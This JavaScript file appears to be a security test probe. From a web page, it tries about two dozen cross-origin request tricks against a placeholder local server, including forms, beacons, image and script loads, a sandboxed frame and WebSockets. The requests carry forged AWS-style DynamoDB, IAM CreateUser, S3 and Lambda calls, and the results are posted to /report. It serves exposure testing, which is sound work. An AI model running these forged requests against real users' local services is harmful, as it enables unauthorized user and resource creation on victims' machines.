// What a page may try on a server of the machine that shows it. SERVER is replaced by its address.
const server = "SERVER";
const target = {
  "X-Amz-Target": "DynamoDB_20120810.CreateTable",
  "Content-Type": "application/x-amz-json-1.0",
  "X-Amz-Date": "20260101T000000Z",
  Authorization: "AWS4-HMAC-SHA256 Credential=AKIA/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=00",
};
const table = JSON.stringify({
  TableName: "stolen",
  BillingMode: "PAY_PER_REQUEST",
  AttributeDefinitions: [{ AttributeName: "pk", AttributeType: "S" }],
  KeySchema: [{ AttributeName: "pk", KeyType: "HASH" }],
});
const presigned =
  "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20260101T000000Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=00" +
  "&X-Amz-Credential=AKIA%2F20260101%2Fus-east-1%2F";
const createUser = `Action=CreateUser&Version=2010-05-08&UserName=`;
const signed = `/?${presigned}iam%2Faws4_request`;
const user = (name) => `${createUser}${name}&${presigned}iam%2Faws4_request`;
const results = {};

async function attempt(name, action) {
  try {
    results[name] = await action();
  } catch (error) {
    results[name] = `failed: ${error.message}`;
  }
}
const seen = (response) => (response.type === "opaque" ? "opaque" : `read ${response.status}`);
const ask = (path, options) => fetch(server + path, options).then(seen);

function element(tag, attributes) {
  return new Promise((resolve) => {
    const made = Object.assign(document.createElement(tag), attributes);
    made.onload = () => resolve("loaded");
    made.onerror = () => resolve("not loaded");
    document.body.append(made);
    setTimeout(() => resolve("nothing came"), 5000);
  });
}

function submit(method, enctype, path, fields) {
  const name = `frame${Math.random()}`;
  const loaded = element("iframe", { name });
  const form = Object.assign(document.createElement("form"), { method, enctype, action: server + path, target: name });
  for (const [key, value] of Object.entries(fields)) form.append(Object.assign(document.createElement("input"), { name: key, value }));
  document.body.append(form);
  form.submit();
  return loaded.then(() => new Promise((resolve) => setTimeout(() => resolve("sent"), 500)));
}

const fields = (query) => Object.fromEntries(new URLSearchParams(query));

await attempt("fetch", () => ask("/", { method: "POST", headers: target, body: table }));
await attempt("fetch without preflight", () => ask("/", { method: "POST", headers: { "Content-Type": "text/plain" }, body: table }));
await attempt("fetch without cors", () => ask("/", { method: "POST", mode: "no-cors", headers: target, body: table }));
await attempt("fetch with credentials", () => ask("/", { method: "POST", credentials: "include", body: table }));
await attempt("fetch without referrer", () => ask(signed, { method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: createUser + "a" }));
await attempt("read", () => ask("/", {}));
await attempt("read health", () => ask("/health", {}));
await attempt("get an action", () => ask(`/?${user("b")}`, { mode: "no-cors" }));
await attempt("get an action without referrer", () => ask(`/?${user("c")}`, { mode: "no-cors", referrerPolicy: "no-referrer" }));
await attempt("post an action", () =>
  ask(signed, { method: "POST", mode: "no-cors", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: createUser + "d" }));
await attempt("beacon", () => String(navigator.sendBeacon(server + signed, new URLSearchParams(createUser + "e"))));
await attempt("put an object", () => ask("/stolen/key", { method: "PUT", mode: "cors", body: "x" }));
await attempt("put a bucket", () => ask(`/stolen?${presigned}s3%2Faws4_request`, { method: "PUT" }));
await attempt("invoke", () => ask("/2015-03-31/functions/f/invocations", { method: "POST", mode: "no-cors", body: "{}" }));
await attempt("image", () => element("img", { src: `${server}/?${user("f")}` }));
await attempt("script", () => element("script", { src: `${server}/?${user("g")}` }));
await attempt("style", () => element("link", { rel: "stylesheet", href: `${server}/?${user("h")}` }));
await attempt("frame", () => element("iframe", { src: `${server}/?${user("i")}` }));
await attempt("prefetch", () => element("link", { rel: "prefetch", href: `${server}/?${user("j")}` }));
await attempt("form by GET", () => submit("GET", "application/x-www-form-urlencoded", "/", fields(user("k"))));
await attempt("form by POST", () => submit("POST", "application/x-www-form-urlencoded", signed, fields(createUser + "l")));
await attempt("form as text", () => submit("POST", "text/plain", "/", { [table]: "" }));
await attempt("form of S3", () => submit("POST", "multipart/form-data", "/stolen", { key: "k", file: "x" }));
await attempt("sandboxed frame", () =>
  element("iframe", { sandbox: "allow-scripts allow-forms", srcdoc: `<form method=POST action="${server}${signed.replaceAll("&", "&amp;")}"><input name=Action value=CreateUser><input name=Version value=2010-05-08><input name=UserName value=m></form><script>document.forms[0].submit()</script>` }).then(
    () => new Promise((resolve) => setTimeout(() => resolve("sent"), 500)),
  ));
await attempt("WebSocket", () =>
  new Promise((resolve) => {
    const socket = new WebSocket(server.replace("http", "ws") + "/");
    socket.onopen = () => resolve("opened");
    socket.onerror = () => resolve("refused");
  }));
await attempt("EventSource", () =>
  new Promise((resolve) => {
    const source = new EventSource(server + "/");
    source.onopen = () => resolve("opened");
    source.onerror = () => resolve("refused");
  }));
await fetch("/report", { method: "POST", body: JSON.stringify(results) });
